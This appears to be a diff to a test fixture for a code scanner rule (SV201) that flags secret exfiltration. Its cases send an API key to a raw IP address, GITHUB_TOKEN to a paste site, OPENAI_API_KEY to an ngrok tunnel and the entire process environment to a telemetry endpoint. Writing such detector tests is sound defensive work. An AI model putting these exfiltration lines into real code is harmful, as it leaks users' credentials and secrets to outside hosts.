@@ -15,3 +15,8 @@ fetch(`https://203.0.113.9/k?d=${encodeURIComponent(key)}`);     // want "SV201:
 
 fetch('https://paste.example.com/api', { headers: { 'X-Token': process.env.GITHUB_TOKEN } }); // want "SV201: .*GITHUB_TOKEN.*not the vendor"
 fetch('https://abc123.ngrok-free.app/t', { method: 'POST', body: process.env.OPENAI_API_KEY }); // want "SV201: sends OPENAI_API_KEY to .*tunnel"
+
+function report(data) {
+  return fetch('https://telemetry.example.dev/v1/collect', { method: 'POST', body: JSON.stringify(data) }); // want "SV201: sends the whole environment to telemetry.example.dev"
+}
+report({ ...process.env, ts: Date.now() });
